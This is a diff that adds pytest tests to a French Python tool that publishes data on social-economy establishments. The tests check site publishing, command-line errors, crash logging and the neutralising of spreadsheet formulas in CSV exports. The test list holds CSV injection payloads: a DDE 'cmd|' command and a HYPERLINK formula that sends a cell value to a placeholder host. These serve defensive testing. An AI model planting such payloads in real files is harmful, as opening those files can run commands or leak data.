@@ -347,3 +347,211 @@ def test_kill_9_a_chaque_etape_base_et_rejets_concordent(registre, bonne, tmp_pa
     assert sorted(p.name for p in b.parent.iterdir()) == [
         "obs.duckdb", "obs.duckdb.rejets", "obs.duckdb.travail"]
     assert [p.name for p in b.with_name("obs.duckdb.rejets").iterdir()] == [M]
+
+
+# --------------------------------------------------------------------------- publier
+
+
+def _publier(b: Path, sortie: Path):
+    from essqpv.web import publier
+    return publier(b, sortie, territoires=["COM:93066"], fichiers="aucun", rapports=False,
+                   processus=1)
+
+
+def test_publier_refuse_un_dossier_qui_n_est_pas_le_sien(bonne, tmp_path):
+    sortie = tmp_path / "V"
+    (sortie / "mes_notes").mkdir(parents=True)
+    (sortie / "budget.xlsx").write_bytes(b"a moi")
+    (sortie / "mes_notes" / "n.txt").write_text("a moi aussi")
+    r = lancer("publier", "-b", bonne, "--sortie", sortie, "--territoire", "COM:93066",
+               "--fichiers", "aucun", "--sans-rapports")
+    assert r.returncode == 1 and "Traceback" not in r.stderr
+    assert "ne contient pas de site publié par essqpv" in plat(r.stderr)
+    assert (sortie / "budget.xlsx").read_bytes() == b"a moi"
+    assert (sortie / "mes_notes" / "n.txt").read_text() == "a moi aussi"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["V"]   # nothing left beside it
+    fichier = tmp_path / "un_fichier"
+    fichier.write_text("x")
+    from essqpv.errors import SortieRefusee
+    with pytest.raises(SortieRefusee, match="est un fichier"):
+        _publier(bonne, fichier)
+    assert fichier.read_text() == "x"
+
+
+def test_publier_droits_publics_et_republication_de_son_propre_site(bonne, tmp_path):
+    from essqpv.errors import SortieRefusee
+    sortie = tmp_path / "site"
+    ancien = os.umask(0o077)  # a strict umask: the site must still be readable by others
+    try:
+        _publier(bonne, sortie)
+    finally:
+        os.umask(ancien)
+    modes = {(p.is_dir(), p.stat().st_mode & 0o777) for p in [sortie, *sortie.rglob("*")]}
+    assert modes == {(True, 0o755), (False, 0o644)}
+    assert (sortie / "index.html").exists() and (sortie / ".essqpv-site.json").exists()
+    # its own earlier site: replaced
+    (sortie / "index.html").write_text("ancienne page")
+    _publier(bonne, sortie)
+    assert "ancienne page" not in (sortie / "index.html").read_text("utf-8")
+    # a file of the user's added to the site: refused, kept
+    (sortie / "donnees" / "a_moi.csv").write_text("x")
+    with pytest.raises(SortieRefusee, match="qu'essqpv n'a pas écrit.*donnees/a_moi.csv"):
+        _publier(bonne, sortie)
+    assert (sortie / "donnees" / "a_moi.csv").read_text() == "x"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["site"]
+
+
+def test_publier_dans_un_lien_symbolique_suit_le_lien(bonne, tmp_path):
+    reel = tmp_path / "reel"
+    reel.mkdir()
+    lien = tmp_path / "lien"
+    lien.symlink_to(reel, target_is_directory=True)
+    _publier(bonne, lien)
+    assert lien.is_symlink() and (reel / "index.html").exists()
+    assert (lien / "index.html").exists()
+
+
+# --------------------------------------------------------------------------- command line
+
+
+@pytest.mark.parametrize("args, attendu", [
+    (["construire", "-e", "a", "-u", "b", "-m", M, "--tampon", "abc"],
+     "valeur invalide pour --tampon : un nombre entier est attendu"),
+    (["construire", "--inconnue"], "option inconnue : --inconnue"),
+    (["rapport", "-b", "x.duckdb", "-t", "FR", "--format", "docx"],
+     "« docx » n'est pas l'une des valeurs possibles"),
+    (["controle", "en-trop"], "argument en trop : en-trop"),
+    (["commande-inconnue"], "commande inconnue : commande-inconnue"),
+    (["construire"], "--etablissements / -e est obligatoire"),
+    (["localiser", "--lon", "nan", "--lat", "48.9"], "« nan » n'est pas un nombre fini"),
+    (["localiser", "--lon", "inf", "--lat", "48.9"], "« inf » n'est pas un nombre fini"),
+])
+def test_erreurs_d_usage_une_ligne_en_francais_code_2(args, attendu):
+    r = lancer(*args)
+    assert r.returncode == 2, (r.stdout, r.stderr)
+    assert attendu in plat(r.stderr)
+    assert "Traceback" not in r.stderr and "Error:" not in r.stderr
+    assert len(r.stderr.strip().splitlines()) <= 2  # one line (the console may wrap it)
+
+
+def test_base_qui_n_est_pas_duckdb_code_2(tmp_path):
+    faux = tmp_path / "pas_une_base.duckdb"
+    faux.write_text("ceci n'est pas une base\n")
+    for args in (["controle", "-b", faux], ["rapport", "-b", faux, "-t", "FR"],
+                 ["indicateurs", "-b", faux, "-t", "FR"]):
+        r = lancer(*args)
+        assert r.returncode == 2, (args, r.stderr)
+        assert "n'est pas une base DuckDB lisible (fichier d'un autre type ou endommagé)" \
+            in plat(r.stderr)
+        assert "Traceback" not in r.stderr
+    assert faux.read_text() == "ceci n'est pas une base\n"
+
+
+def test_plantage_une_ligne_et_la_trace_journalisee(tmp_path, monkeypatch, capsys):
+    import typer
+
+    from essqpv.cli._commun import executer
+    app = typer.Typer()
+
+    @app.command()
+    def casse(n: int = 1) -> None:
+        {}["cle_absente"]
+
+    @app.command()
+    def autre() -> None:
+        pass
+
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "etat"))
+    assert executer(app, ["casse"]) == 1
+    err = capsys.readouterr().err
+    assert "Erreur interne : KeyError : 'cle_absente' — trace complète dans" in plat(err)
+    journaux = list((tmp_path / "etat" / "essqpv").glob("essqpv-erreur-*.log"))
+    assert len(journaux) == 1 and str(journaux[0]) in plat(err).replace(" ", "") or \
+        str(journaux[0]) in err.replace("\n", "")
+    trace = journaux[0].read_text("utf-8")
+    assert "Traceback" in trace and "cle_absente" in trace and "def casse" not in err
+
+
+def test_initiatives_valider_code_1_quand_des_lignes_sont_rejetees():
+    donnees = Path(__file__).parent / "data" / "initiatives"
+    r = lancer("initiatives", "valider", donnees / "erreurs.csv")
+    assert r.returncode == 1 and "rejet" in r.stdout.lower()
+    assert lancer("initiatives", "valider", donnees / "initiatives.csv").returncode == 0
+
+
+# --------------------------------------------------------------------------- CSV formulas
+
+
+FORMULES = ['=HYPERLINK("http://exemple.invalid/?q="&A1,"clic")', "=cmd|' /C calc'!A0",
+            "+33 1 23 45 67 89", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\tTABULATION"]
+
+
+def test_neutraliser_regle_owasp():
+    from essqpv.csv_sur import neutraliser, neutraliser_frame
+    import polars as pl
+    for v in FORMULES + ["\rRETOUR"]:
+        assert neutraliser(v) == "'" + v
+    for v in ("-12", "+3.5", "-1,55", "1e-3", "ASSOCIATION = SOLIDARITE", "", None, 7, -3.2):
+        assert neutraliser(v) == v
+    df = pl.DataFrame({"t": ["=1+1", "-12", "ok", None], "n": [-1, 2, 3, 4]})
+    assert neutraliser_frame(df).to_dict(as_series=False) == {
+        "t": ["'=1+1", "-12", "ok", None], "n": [-1, 2, 3, 4]}
+
+
+def _lire_csv(chemin: Path, sep: str = ",") -> list[dict]:
+    texte = chemin.read_text("utf-8-sig")
+    return list(csv.DictReader(io.StringIO(texte, newline=""), delimiter=sep))
+
+
+def test_export_csv_des_etablissements_sans_formule(registre, tmp_path):
+    from essqpv.outputs.exports import exporter
+    lignes = list(csv.reader(io.StringIO(registre["ul"].read_text("utf-8"), newline="")))
+    i_nom = lignes[0].index("denominationUniteLegale")
+    i_cj = lignes[0].index("categorieJuridiqueUniteLegale")
+    visees = [k for k, l in enumerate(lignes[1:], 1) if l[i_cj] == "9220"][:len(FORMULES)]
+    for k, formule in zip(visees, FORMULES):
+        lignes[k][i_nom] = formule
+    ul = tmp_path / "StockUniteLegale_formules.csv"
+    with open(ul, "w", encoding="utf-8", newline="") as f:
+        csv.writer(f, lineterminator="\n").writerows(lignes)
+    b = tmp_path / "obs.duckdb"
+    B.construire(etablissements=registre["etab"], unites_legales=ul,
+                 geolocalisation=registre["geo"], millesime=M, base=b)
+    ecrits = exporter(b, "FR", "csv", tmp_path / "exports")
+    etab = next(p for p in ecrits if p.name.endswith("-etablissements.csv"))
+    noms = [r["denomination"] for r in _lire_csv(etab)]
+    trouvees = [n for n in noms if n.startswith("'")]
+    assert trouvees and {n[1:] for n in trouvees} <= set(FORMULES)
+    assert not [n for n in noms if n[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    # numbers stay numbers (coordinates of the west of France are negative)
+    assert any(r["lon"].startswith("-") for r in _lire_csv(etab) if r["lon"])
+
+
+def test_resultat_de_localiser_et_export_des_initiatives_sans_formule(tmp_path):
+    points = tmp_path / "points.csv"
+    with open(points, "w", encoding="utf-8", newline="") as f:
+        w = csv.writer(f, lineterminator="\n")
+        w.writerow(["nom", "lon", "lat"])
+        for k, formule in enumerate(FORMULES):
+            w.writerow([formule, f"{-1.68 + k / 1000:.4f}", "48.11"])  # Rennes: negative lon
+    sortie = tmp_path / "points_qpv.csv"
+    r = lancer("localiser", "--fichier", points, "--sortie", sortie)
+    assert r.returncode == 0, r.stderr
+    lues = _lire_csv(sortie, sep=",")
+    assert [x["nom"] for x in lues] == ["'" + v for v in FORMULES]
+    assert all(x["lon"].startswith("-1.6") for x in lues)
+
+    initiatives = tmp_path / "initiatives.csv"
+    with open(initiatives, "w", encoding="utf-8", newline="") as f:
+        w = csv.writer(f, lineterminator="\n")
+        w.writerow(["nom", "siret", "code_postal", "commune", "longitude", "latitude"])
+        for k, formule in enumerate(FORMULES):
+            w.writerow([formule, "", "93000", "Bobigny", f"{2.44 + k / 1000:.4f}", "48.91"])
+    b = tmp_path / "annuaire.duckdb"
+    r = lancer("initiatives", "importer", initiatives, "--base", b, "--creer")
+    assert r.returncode == 0, (r.stdout, r.stderr)
+    export = tmp_path / "export.csv"
+    assert lancer("initiatives", "exporter", export, "--base", b).returncode == 0
+    noms = [x["nom"] for x in _lire_csv(export)]
+    # (the directory trims the names: the leading tab goes, then nothing to neutralise)
+    assert sorted(noms) == sorted("'" + v for v in FORMULES if v[0] != "\t") + ["TABULATION"]
